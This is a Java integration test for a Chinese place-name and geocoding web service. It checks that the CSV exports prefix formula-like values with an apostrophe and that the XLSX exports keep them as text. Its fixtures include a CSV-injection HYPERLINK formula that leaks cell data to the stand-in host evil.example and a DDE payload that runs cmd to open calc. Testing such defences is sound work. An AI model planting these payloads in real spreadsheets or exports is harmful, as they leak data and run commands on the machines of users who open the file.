package org.civgis.web.tabular;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.ss.usermodel.WorkbookFactory;
import org.civgis.web.WebIntegrationTest;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import tools.jackson.databind.JsonNode;

/**
 * Text that a spreadsheet would run as a formula leaves every CSV export as text (an apostrophe in
 * front, quoted), numbers stay numbers, and the XLSX exports hold it as a string cell: the batch
 * geocoding results, the annual update, the division export.
 */
class CsvInjectionIT extends WebIntegrationTest {
  private static final HttpClient HTTP = HttpClient.newHttpClient();
  private static final LocalDate TODAY = LocalDate.now(ZoneId.of("Asia/Shanghai"));
  private static final String LINK = "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点击查看\")";
  private static final String DDE = "@SUM(1+1)*cmd|' /C calc'!A0";

  @Autowired JdbcClient jdbc;

  private static List<List<String>> parse(String csv) throws IOException {
    List<List<String>> rows = new ArrayList<>();
    for (CSVRecord record :
        CSVFormat.DEFAULT.parse(
            new StringReader(csv.startsWith("\uFEFF") ? csv.substring(1) : csv))) {
      List<String> row = new ArrayList<>();
      record.forEach(row::add);
      rows.add(row);
    }
    return rows;
  }

  private HttpResponse<byte[]> download(String path, String user) throws Exception {
    HttpResponse<byte[]> response =
        HTTP.send(
            HttpRequest.newBuilder(URI.create(baseUrl() + path))
                .header("Authorization", "Bearer " + tokenOf(user))
                .build(),
            HttpResponse.BodyHandlers.ofByteArray());
    assertThat(response.statusCode()).as(path).isEqualTo(200);
    return response;
  }

  // ---- batch geocoding: the user's own columns come back

  private String geocodeFile(String csv, String format) throws Exception {
    String boundary = "----civgis" + System.nanoTime();
    ByteArrayOutputStream body = new ByteArrayOutputStream();
    body.writeBytes(
        ("--"
                + boundary
                + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"名单.csv\"\r\n"
                + "Content-Type: text/csv\r\n\r\n"
                + csv
                + "\r\n--"
                + boundary
                + "--\r\n")
            .getBytes(StandardCharsets.UTF_8));
    HttpResponse<String> started =
        HTTP.send(
            HttpRequest.newBuilder(URI.create(baseUrl() + "/api/geocode/batch?format=" + format))
                .header("Authorization", "Bearer " + tokenOf("viewer"))
                .header("Content-Type", "multipart/form-data; boundary=" + boundary)
                .POST(HttpRequest.BodyPublishers.ofByteArray(body.toByteArray()))
                .build(),
            HttpResponse.BodyHandlers.ofString());
    assertThat(started.statusCode()).as(started.body()).isEqualTo(202);
    String location = started.headers().firstValue("Location").orElseThrow();
    Instant deadline = Instant.now().plus(Duration.ofSeconds(30));
    JsonNode job = JSON.readTree(send("GET", location, "viewer", null).body());
    while (!job.path("state").asString().matches("SUCCEEDED|FAILED")
        && Instant.now().isBefore(deadline)) {
      Thread.sleep(100);
      job = JSON.readTree(send("GET", location, "viewer", null).body());
    }
    assertThat(job.path("state").asString()).as(job.toString()).isEqualTo("SUCCEEDED");
    return location + "/result";
  }

  private static final String ADDRESSES =
      "编号,地址,经度,备注\n"
          + "1,\""
          + LINK.replace("\"", "\"\"")
          + "\",-12.5,"
          + DDE
          + "\n"
          + "2,昌吉市屯河路36号,87.3,+86 138\n";

  @Test
  void theBatchGeocodingCsvNeutralisesFormulasAndKeepsNumbers() throws Exception {
    HttpResponse<byte[]> result = download(geocodeFile(ADDRESSES, "csv"), "viewer");
    String text = new String(result.body(), StandardCharsets.UTF_8);
    assertThat(text)
        .contains("\"'=HYPERLINK(\"\"http://evil.example/?q=\"\"&A1,\"\"点击查看\"\")\",-12.5,");
    List<List<String>> rows = parse(text);
    assertThat(rows.get(0)).startsWith("编号", "地址", "经度", "备注", "匹配级别");
    assertThat(rows.get(1)).startsWith("1", "'" + LINK, "-12.5", "'" + DDE);
    assertThat(rows.get(2)).startsWith("2", "昌吉市屯河路36号", "87.3", "'+86 138", "门牌");
    // the result's own numbers: confidence, longitude, latitude
    List<String> matched = rows.get(2);
    assertThat(matched.get(matched.size() - 3)).matches("8[67]\\.[0-9]{7}");
    assertThat(text).doesNotContain("\n=", ",=", ",@", ",+", "\n@");
  }

  @Test
  void theBatchGeocodingXlsxHoldsFormulasAsText() throws Exception {
    HttpResponse<byte[]> result = download(geocodeFile(ADDRESSES, "xlsx"), "viewer");
    try (Workbook workbook = WorkbookFactory.create(new ByteArrayInputStream(result.body()))) {
      Cell link = workbook.getSheetAt(0).getRow(1).getCell(1);
      assertThat(link.getCellType()).isEqualTo(CellType.STRING);
      assertThat(link.getStringCellValue()).isEqualTo(LINK);
    }
  }

  // ---- the annual update: an officer's approval document number

  private String road(String name, String specific) {
    return """
        {"type":"Feature",
         "geometry":{"type":"LineString","coordinates":[[88.18,44.15],[88.20,44.16]]},
         "properties":{"standardName":"%s","specificPart":"%s","genericPart":"路",
                       "categoryCode":"0801","divisionCode":"652302000000",
                       "meaning":"以当地地名命名"}}"""
        .formatted(name, specific);
  }

  private HttpResponse<String> step(String id, String user, String json) {
    String etag =
        send("GET", "/api/place-names/" + id, user, null)
            .headers()
            .firstValue("ETag")
            .orElseThrow();
    return send(
        "POST",
        "/api/place-names/" + id + "/steps",
        user,
        json,
        "If-Match",
        etag,
        "Content-Type",
        "application/json");
  }

  private static String json(String text) {
    return JSON.writeValueAsString(text);
  }

  @Test
  void theAnnualUpdateCsvNeutralisesFormulasAndItsXlsxHoldsThemAsText() throws Exception {
    HttpResponse<String> created =
        send("POST", "/ogc/collections/place-names/items", "fukang.officer", road("澄观路", "澄观"));
    assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
    String id = JSON.readTree(created.body()).path("id").asString();
    assertThat(
            step(
                    id,
                    "fukang.officer",
                    "{\"target\":\"UNDER_REVIEW\",\"on\":\"" + TODAY.minusDays(21) + "\"}")
                .statusCode())
        .isEqualTo(200);
    for (String kind : List.of("EXPERT_EVALUATION", "PUBLIC_CONSULTATION")) {
      HttpResponse<String> review =
          send(
              "POST",
              "/api/place-names/" + id + "/reviews",
              "fukang.officer",
              """
              {"kind":"%s","startedOn":"%s","endedOn":"%s","opinions":"无异议","conclusion":"同意"}"""
                  .formatted(kind, TODAY.minusDays(20), TODAY.minusDays(10)),
              "Content-Type",
              "application/json");
      assertThat(review.statusCode()).as(review.body()).isEqualTo(204);
    }
    HttpResponse<String> approved =
        step(
            id,
            "prefecture.officer",
            """
            {"target":"APPROVED","on":"%s",
             "approval":{"authority":"阜康市人民政府","date":"%s","documentNo":%s}}"""
                .formatted(TODAY.minusDays(5), TODAY.minusDays(5), json(LINK)));
    assertThat(approved.statusCode()).as(approved.body()).isEqualTo(200);
    HttpResponse<String> announced =
        step(
            id,
            "prefecture.officer",
            """
            {"target":"ANNOUNCED","on":"%s","announcement":{"number":%s,"date":"%s"}}"""
                .formatted(TODAY.minusDays(1), json(DDE), TODAY.minusDays(1)));
    assertThat(announced.statusCode()).as(announced.body()).isEqualTo(200);
    int year = TODAY.minusDays(1).getYear();

    String csv =
        new String(
            download("/api/place-names/annual-update?year=" + year + "&format=csv", "admin").body(),
            StandardCharsets.UTF_8);
    List<String> row = parse(csv).stream().filter(r -> r.contains("澄观路")).findFirst().orElseThrow();
    assertThat(row.get(0)).matches("[0-9]+"); // 序号 stays a number
    assertThat(row.get(12)).isEqualTo("'" + LINK); // 批准文号
    assertThat(row.get(13)).isEqualTo("'" + DDE); // 公告编号
    assertThat(csv).contains(",\"'=HYPERLINK(").doesNotContain("," + LINK.substring(0, 10));

    byte[] xlsx =
        download("/api/place-names/annual-update?year=" + year + "&division=652302", "admin")
            .body();
    try (Workbook workbook = WorkbookFactory.create(new ByteArrayInputStream(xlsx))) {
      Sheet fukang = workbook.getSheet("652302 阜康市");
      boolean found = false;
      for (Row line : fukang) {
        if (line.getCell(5) != null && "澄观路".equals(line.getCell(5).getStringCellValue())) {
          assertThat(line.getCell(12).getCellType()).isEqualTo(CellType.STRING);
          assertThat(line.getCell(12).getStringCellValue()).isEqualTo(LINK);
          found = true;
        }
      }
      assertThat(found).isTrue();
    }
  }

  // ---- the division export (written by GDAL, then by our writer)

  @Test
  void theDivisionCsvExportNeutralisesFormulas() throws Exception {
    String code = "659999000001";
    jdbc.sql(
            """
            insert into boundary.division_version (code, name, level, parent_code, valid, geom, source)
            values (:code, :name, 3, '659999000000', daterange('2999-01-01', null),
                    ST_Multi(ST_GeomFromText('POLYGON((87 44, 87.1 44, 87.1 44.1, 87 44))', 4490)),
                    'test')
            """)
        .param("code", code)
        .param("name", LINK)
        .update();
    try {
      String csv =
          new String(
              download(
                      "/api/boundary/exports?format=csv&level=3&parent=659999000000&date=2999-06-01",
                      "admin")
                  .body(),
              StandardCharsets.UTF_8);
      List<List<String>> rows = parse(csv);
      int name = rows.get(0).indexOf("name");
      int level = rows.get(0).indexOf("level");
      assertThat(rows).hasSize(2);
      assertThat(rows.get(1).get(name)).isEqualTo("'" + LINK);
      assertThat(rows.get(1).get(level)).isEqualTo("3");
      assertThat(rows.get(1).get(0)).startsWith("MULTIPOLYGON");
      assertThat(csv).contains("\"'=HYPERLINK(");
    } finally {
      jdbc.sql("delete from boundary.division_version where code = :code")
          .param("code", code)
          .update();
    }
  }
}
